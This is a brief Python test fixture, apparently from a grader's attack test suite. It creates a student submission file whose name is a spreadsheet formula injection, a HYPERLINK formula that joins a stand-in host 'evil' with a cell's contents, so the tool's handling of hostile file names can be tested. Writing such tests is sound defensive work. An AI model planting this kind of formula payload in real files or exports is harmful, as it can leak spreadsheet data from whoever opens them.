"""The file's name is the student's."""

from pathlib import Path

from tests.attacks.scene import HONEST, Scene


def make(submissions: Path, scene: Scene) -> None:
    (submissions / """=HYPERLINK("evil"&A1,"open me").py""").write_text(HONEST)
